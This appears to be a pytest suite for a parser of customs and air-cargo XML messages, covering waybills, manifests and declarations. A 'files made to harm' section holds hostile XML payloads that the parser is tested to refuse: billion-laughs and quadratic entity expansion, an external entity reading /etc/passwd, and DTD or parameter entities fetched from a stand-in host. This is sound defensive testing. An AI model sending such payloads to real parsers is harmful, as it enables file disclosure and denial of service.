"""Messages in XML: what they tell, and files made to harm a reader."""

from __future__ import annotations

import json
import re
import tracemalloc

import pytest
from hypothesis import given
from hypothesis import strategies as st

from messages.cargo import codes
from messages.edi import DATA, read_soundly
from tidewaiter.messages.xml.tree import DEEPEST, MOST_ELEMENTS, parse
from tidewaiter.records import Message, as_dict

XML = DATA / "xml"
NAMES = sorted(path.stem for path in XML.glob("*.xml"))


def text_of(name: str) -> str:
    return (XML / f"{name}.xml").read_text("utf-8")


def sample(name: str) -> Message:
    (message,) = read_soundly(text_of(name))
    return message


def only_problem(data: bytes | str) -> str:
    (message,) = read_soundly(data)
    assert message.kind == "unknown"
    assert not message.consignments
    (code,) = codes(message)
    return code


# --- what they tell ---


def test_an_air_waybill_tells_parties_legs_values_and_security() -> None:
    message = sample("xfwb")
    assert codes(message) == []
    assert (message.kind, message.function.action, message.sent_at) == (
        "XFWB",
        "add",
        "2026-03-04T09:15",
    )
    (bill,) = message.consignments
    assert (bill.reference, bill.origin, bill.destination, bill.transits) == (
        "123-00000055",
        "GYE",
        "AMS",
        ("BOG",),
    )
    assert (bill.packages, bill.gross_mass_kg) == (40, pytest.approx(453.59237))
    shipper, consignee = bill.parties
    assert (shipper.name, shipper.contact_name) == ("ORCHARD OF THE SOUTH", "ROSA INVENTADA")
    assert (shipper.ids, shipper.id_kinds) == (("ACC77", "0990012345001"), ("AccountID", "trader"))
    assert consignee.country == "NL"
    assert bill.value is not None
    assert (bill.value.amount, bill.value.kind, bill.nil) == (4200, "customs", {"carriage": True})
    assert bill.freight is not None
    assert bill.freight.terms == "collect"
    assert bill.security == (
        ("EC/SHP/T", "0990012345001"),
        ("EC/ISS/RA", "00077-01"),
        ("EC/ISS/SM", "XRY"),
    )
    assert (bill.items[0].hs, bill.items[0].description) == ("060311", "CUT ROSES")
    assert [leg.number for leg in bill.transports] == ["0123", "0456"]
    assert "ROSA INVENTADA" not in str(message.references), (
        "who signed may not stand where it is not tagged"
    )
    assert any(text == "ROSA INVENTADA" for _, text in bill.texts)


def test_a_house_waybill_stands_under_its_master() -> None:
    message = sample("xfzb")
    master, house = message.consignments
    assert (house.house_of, house.destination, house.items[0].hs) == (
        master.reference,
        "RTM",
        "060311",
    )
    assert (master.packages, house.packages, message.function.action) == (40, 30, "change")
    assert codes(message) == []


def test_a_flight_manifest_tells_legs_units_and_waybills() -> None:
    message = sample("xffm")
    (leg,) = message.movements
    assert (leg.carrier, leg.number, leg.departure.place, leg.arrival.place) == (
        "XX",
        "0456",
        "BOG",
        "AMS",
    )
    assert leg.departure.utc == "2026-03-06T03:10Z"
    (unit,) = message.equipment
    (bill,) = message.consignments
    assert (unit.id, bill.equipment, bill.packages, bill.handling) == (
        "PMC12345XX",
        ("PMC12345XX",),
        40,
        ("PER",),
    )
    assert codes(message) == []


def test_an_entry_summary_declaration_tells_route_payment_and_boxes() -> None:
    message = sample("cc315a")
    (entry,) = message.consignments
    (box,) = message.equipment
    assert (box.id, entry.equipment) == ("TIDU1234566", ("TIDU1234566",))
    assert entry.freight is not None
    assert (entry.transits, entry.freight.method, [seal.number for seal in entry.seals]) == (
        ("EC", "PA", "NL"),
        "A",
        ["TW778812"],
    )
    assert not box.seals, "seals of the head are tied to no box"
    (line,) = entry.items
    assert (line.packages, line.gross_mass_kg, line.hs, line.parties[0].name) == (
        1080,
        20520.5,
        "080390",
        "QUAYSIDE AGENTS",
    )
    assert [(party.role, party.ids, party.name) for party in entry.parties] == [
        ("consignor", (), "ORCHARD OF THE SOUTH"),
        ("consignee", ("NL8001",), ""),
    ]
    (voyage,) = message.movements
    assert voyage.means is not None
    assert (voyage.means.imo, voyage.number, voyage.arrival.local) == (
        "9074729",
        "044E",
        "2026-03-12T03:30",
    )
    assert codes(message) == ["item-count"]


def test_an_amendment_is_told_apart() -> None:
    message = read_soundly(text_of("cc315a").replace("CC315A", "CC313A"))[0]
    assert (message.kind, message.function.action) == ("CC313A", "change")


def test_a_declaration_tells_value_code_box_and_previous_document() -> None:
    message = sample("declaration")
    assert codes(message) == []
    assert (message.kind, message.function.document, message.function.document_meaning) == (
        "WCO-DEC",
        "IMA",
        "import A",
    )
    (bill,) = message.consignments
    assert (bill.reference, bill.origin, bill.destination, bill.mode) == ("LRN8", "EC", "GB", "sea")
    (line,) = bill.items
    assert (line.hs, line.gross_mass_kg, line.net_mass_kg, line.packages) == (
        "0803901000",
        20520,
        19400,
        1080,
    )
    assert [(value.amount, value.currency, value.kind) for value in line.values] == [
        (18000, "USD", "invoice"),
        (14000, "GBP", "statistical"),
    ]
    assert message.equipment[0].seals[0].placeholder
    assert ("PreviousDocument Z705", "TWLBILL001") in bill.documents
    assert ("UCR", "UCR9") in bill.references
    assert {party.role for party in bill.parties} == {"declarant", "exporter", "importer"}


def test_a_moment_with_its_zone_is_an_instant() -> None:
    (message,) = read_soundly(
        "<Declaration xmlns='urn:wco:datamodel:WCO:DEC-DMS:2'><TypeCode>IMA</TypeCode>"
        "<AcceptanceDateTime><DateTimeString formatCode='304'>20260401003000+01</DateTimeString></AcceptanceDateTime>"
        "<GoodsReleasedDateTime><DateTimeString formatCode='304'>20260401003000Z</DateTimeString></GoodsReleasedDateTime>"
        "</Declaration>"
    )
    assert [(one.kind, one.at) for one in message.events] == [
        ("accepted", "2026-03-31T23:30Z"),
        ("released", "2026-04-01T00:30Z"),
    ]


@pytest.mark.parametrize(
    "text", ["20260231003000Z", "00010101000000+14", "99991231235959-14", "20261301", "2026"]
)
def test_a_moment_that_never_was_is_passed_over(text: str) -> None:
    (message,) = read_soundly(
        "<Declaration xmlns='urn:wco:datamodel:WCO:DEC-DMS:2'><TypeCode>IMA</TypeCode>"
        f"<AcceptanceDateTime><DateTimeString>{text}</DateTimeString></AcceptanceDateTime></Declaration>"
    )
    assert message.events == ()


def squeezed(text: str) -> str:
    return re.sub("[^A-Z0-9]", "", text.upper())


@pytest.mark.parametrize("name", NAMES)
def test_whatever_a_message_tells_stands_in_what_was_read(name: str) -> None:
    """But for dates, amounts and sums, which are told in another form, and what says of which list a code is."""
    another_form = re.compile(
        r".*(?:DateTime|DatOfArrFIRENT733|Amount|TypeCode|Indicator|NumOfPacGS24)$|ID"
    )
    (message,) = read_soundly(text_of(name))
    plain = {key: value for key, value in as_dict(message).items() if key != "problems"}
    found = squeezed(json.dumps(plain, ensure_ascii=False))
    for _, node in parse(text_of(name).encode()).root.walk():
        if len(squeezed(node.text)) > 2 and not another_form.fullmatch(node.name):
            assert squeezed(node.text) in found, node.name


def test_what_is_not_told_is_absent_and_never_zero() -> None:
    (message,) = read_soundly(
        '<Declaration xmlns="urn:wco:datamodel:WCO:DEC-DMS:2"><TypeCode>EXA</TypeCode>'
        "<GoodsShipment><GovernmentAgencyGoodsItem/></GoodsShipment></Declaration>"
    )
    (bill,) = message.consignments
    assert (bill.packages, bill.gross_mass_kg, bill.value, bill.freight) == (None, None, None, None)
    assert (bill.items[0].packages, bill.items[0].gross_mass_kg) == (None, None)


def test_any_prefix_and_encoding_reads_the_same() -> None:
    plain = sample("declaration")
    other = text_of("declaration").replace("md:", "x1:").replace("xmlns:md", "xmlns:x1")
    (renamed,) = read_soundly(other)
    assert renamed.consignments == plain.consignments
    (wide,) = read_soundly(b"\xff\xfe" + text_of("declaration").encode("utf-16-le"))
    assert wide.consignments == plain.consignments
    accented = text_of("declaration").replace("Orchard of the South", "Huerta de la Señora")
    (latin,) = read_soundly(
        ('<?xml version="1.0" encoding="ISO-8859-1"?>' + accented).encode("latin-1")
    )
    assert latin.consignments[0].parties[1].name == "Huerta de la Señora"


def test_a_message_of_a_kind_without_reader_gives_its_elements() -> None:
    (message,) = read_soundly(
        "<StatusMessage xmlns='iata:statusmessage:1'><BusinessHeaderDocument><ID>123-00000055</ID></BusinessHeaderDocument></StatusMessage>"
    )
    assert (message.kind, codes(message)) == ("StatusMessage", ["unsupported"])
    assert message.references == {"BusinessHeaderDocument/ID": "123-00000055"}
    assert [segment["tag"] for segment in message.segments] == ["BusinessHeaderDocument/ID"]
    (entry,) = read_soundly("<CC328A><MesSenMES3>X</MesSenMES3></CC328A>")
    assert (entry.kind, codes(entry)) == ("CC328A", ["unsupported"])


# --- files made to harm ---

LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{n} "{f"&lol{n - 1 or str()};" * 10}">' for n in range(1, 10))
    + "]><Waybill xmlns='iata:waybill:1'>&lol9;</Waybill>"
)
A_FILE = "file:" + "//" + "/etc/passwd"
OUTSIDE = f'<!DOCTYPE x [<!ENTITY f SYSTEM "{A_FILE}">]><CC315A>&f;</CC315A>'
OUTSIDE_DTD = '<!DOCTYPE CC315A SYSTEM "http://192.0.2.1/evil.dtd"><CC315A/>'
QUADRATIC = f'<!DOCTYPE x [<!ENTITY a "{"a" * 50_000}">]><CC315A>{"&a;" * 50_000}</CC315A>'
PARAMETER = '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://192.0.2.1/p"> %p;]><CC315A/>'


@pytest.mark.parametrize(
    "data",
    [LAUGHS, OUTSIDE, OUTSIDE_DTD, QUADRATIC, PARAMETER],
    ids=["laughs", "file", "dtd", "quadratic", "parameter"],
)
def test_a_document_type_is_refused_before_anything_of_it_is_expanded(data: str) -> None:
    tracemalloc.start()
    try:
        assert only_problem(data) == "xml-doctype"
        assert tracemalloc.get_traced_memory()[1] < 20_000_000
    finally:
        tracemalloc.stop()


def test_an_entity_without_a_document_type_is_no_xml() -> None:
    (message,) = read_soundly(text_of("cc315a").replace("FRESH BANANAS", "&secret;"))
    assert "xml-broken" in codes(message)
    assert message.consignments[0].reference == "LRN7"


def test_nesting_without_end_is_stopped() -> None:
    tree = parse(b"<a>" * 100_000)
    assert (tree.fault, len(tree.offsets)) == ("xml-too-deep", DEEPEST)
    (message,) = read_soundly("<CC315A>" + "<a>" * 1000)
    assert "xml-too-deep" in codes(message)


def test_elements_without_end_are_stopped() -> None:
    tree = parse(b"<CC315A>" + b"<a/>" * (MOST_ELEMENTS + 10))
    assert (tree.fault, len(tree.offsets)) == ("xml-too-many", MOST_ELEMENTS)


@pytest.mark.parametrize("name", NAMES)
def test_a_file_that_is_cut_off_is_read_up_to_there(name: str) -> None:
    text = text_of(name)
    for cut in range(10, len(text.rstrip()), 97):
        read_soundly(text[:cut])
    (message,) = read_soundly(text.rstrip()[:-5])
    assert codes(message)[0] == "xml-broken"
    assert message.consignments[0].reference == sample(name).consignments[0].reference


def test_xml_that_is_no_message_is_unknown() -> None:
    assert only_problem("<schema xmlns='http://www.w3.org/2001/XMLSchema'/>") == "unknown-kind"
    assert only_problem("<html><body>list follows</body></html>") == "unknown-kind"


@given(
    st.sampled_from(NAMES),
    st.lists(
        st.tuples(
            st.integers(0, 4_000),
            st.sampled_from(["<", ">", "&", "/", "", "x", "<a/>", "<!--", "]]>", "\x00", "é"]),
        ),
        min_size=1,
        max_size=6,
    ),
)
def test_any_damage_is_read_without_failing(name: str, damage: list[tuple[int, str]]) -> None:
    text = text_of(name)
    for at, put in damage:
        place = at % (len(text) + 1)
        text = text[:place] + put + text[place + 1 :]
    read_soundly(text)


@given(st.sampled_from(NAMES), st.data())
def test_any_value_in_any_place_is_read_without_failing(name: str, data: st.DataObject) -> None:
    pieces = text_of(name).split(">")
    for _ in range(3):
        at = data.draw(st.integers(1, len(pieces) - 2))
        put = data.draw(
            st.text(
                st.characters(
                    codec="utf-8", exclude_characters="<&>", exclude_categories=["Cc", "Cs"]
                ),
                max_size=12,
            )
        )
        pieces[at] = put + "<" + pieces[at].partition("<")[2]
    read_soundly(">".join(pieces))
